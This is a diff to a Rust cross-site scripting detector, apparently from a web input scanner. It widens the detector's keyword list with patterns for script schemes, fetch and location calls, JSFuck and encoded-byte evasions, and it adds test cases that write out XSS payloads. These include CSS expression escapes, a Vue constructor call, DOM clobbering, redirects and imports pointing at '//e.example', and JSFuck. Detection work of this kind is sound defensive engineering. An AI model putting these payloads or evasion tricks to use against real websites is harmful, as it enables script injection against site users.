@@ -12,9 +12,10 @@
 //! call that gives an attack away, they are told with less confidence only. To allow them, allow the class by field.
 
 mod address;
+mod attribute;
 mod element;
 mod script;
-
+mod style;
 mod value;
 
 use super::{
@@ -68,9 +69,7 @@ pub(crate) static XSS: Detector = Detector {
             b"<%",
             b"<\0",
             b"<![cdata[<",
-            b"javascript:",
-            b"vbscript:",
-            b"livescript:",
+            b"script:",
             b"data:text/html",
             b"data:image/svg",
             b"expression(",
@@ -106,8 +105,17 @@ pub(crate) static XSS: Detector = Detector {
             b"top[",
             b"-import(",
             b";import(",
+            b"-fetch(",
+            b";fetch(",
             b";location=",
+            b";window.location=",
             b"+adw-",
+            b"![]+",
+            b"[]+{}",
+            b"=~[];",
+            b"\xEF\xBE\x9F\xCF\x89\xEF\xBE\x9F",
+            b"\xC2\xBCscript",
+            b"=&{",
         ],
         confirm,
     },
@@ -195,17 +203,28 @@ fn without_markup(view: &View<'_>, at: usize) -> Outcome {
     }
     let bytes = view.bytes();
     let verdict: Verdict = match bytes[at].to_ascii_lowercase() {
-        b'"' | b'\'' | b'`' => value::new_attribute(bytes, at).or_else(|| value::code(bytes, at)),
-        b'j' | b'v' | b'l' => value::target(bytes, at),
+        b'"' | b'\'' | b'`' if is_handler_next(&bytes[at..]) => value::new_attribute(bytes, at),
+        b's' => value::scheme_start(bytes, at).and_then(|start| value::target(bytes, start)),
+        b'!' | b'[' | 0xEF => value::symbols(bytes, at),
+        b'=' if bytes[at + 1] == b'~' => value::symbols(bytes, at),
+        b'=' if bytes[at + 1] == b'&' => value::entity(bytes, at),
+        0xC2 => value::eighth_bit(bytes, at),
         b'd' if bytes[at + 1].eq_ignore_ascii_case(&b'a') => value::target(bytes, at),
         b'e' if bytes[at + 1].eq_ignore_ascii_case(&b'x') => value::expression(bytes, at),
         b'+' => value::seven_bits(bytes, at),
+        b';' | b'-' => value::code(bytes, at + 1),
         _ => value::code(bytes, at),
     };
     match verdict {
         None => Outcome::Clean { until: at + 1 },
         Some((sure, why)) => found(view, start_of(bytes, at), bytes.len(), sure, why),
     }
+}
+
+/// An attribute that handles an event may follow the quote.
+fn is_handler_next(rest: &[u8]) -> bool {
+    rest.get(1..)
+        .is_some_and(|after| after.trim_ascii_start().first().is_some_and(|byte| matches!(byte | 0x20, b'o' | b'/')))
 }
 
 /// Where a value that is short before `at` begins, so that what it ends is shown as well; otherwise `at`.
@@ -244,12 +263,19 @@ mod tests {
                 ("<q/oncut=anything(3)>", 0..21),
                 ("<div style='width:expression(alert(2))'>", 0..40),
                 ("</title><script src=\"/a.js\"></script>", 8..37),
+                ("<div style=\"x:\\65xpression(alert(2))\">", 0..38),
+                ("<x v-on:click='_c.constructor`alert(2)`()'>", 0..43),
+                ("<form name=getElementById>", 0..26),
+                ("<script>top.location='//e.example'</script>", 0..43),
+                ("<p oncontentvisibilityautostatechange=alert(2)>", 0..47),
             ],
             &[
                 "It depends on = and on more, where a <b and c> d.",
                 "let pairs: Vec<String> = map.into_iter().collect();",
                 "<a href=\"/about\" class=\"link\">About us</a> <img src=\"/logo.png\" alt=\"\">",
                 "<button onClick={() => alert('x')}>Save</button>",
+                "<button @click=\"save()\" :class=\"{ a: b }\">Save</button>",
+                "<input name=\"body\"><a name=\"implementation\">x</a>",
                 "<!DOCTYPE html><html><head><title>T</title><script src=\"/app.js\"></script></head><body onload=\"init()\"></body></html>",
             ],
         );
@@ -264,6 +290,11 @@ mod tests {
                 ("';alert(7)//", 0..12),
                 ("x\" onfocus=alert(9) y=\"", 0..23),
                 ("'-confirm(2)-'", 0..14),
+                ("java\nscript:alert(2)", 0..20),
+                ("?callback=alert(2)", 0..18),
+                ("7-alert(2)", 0..10),
+                ("';import('//e.example')//", 0..25),
+                ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", 0..37),
             ],
             &[
                 "An alert (see below) was confirmed.",
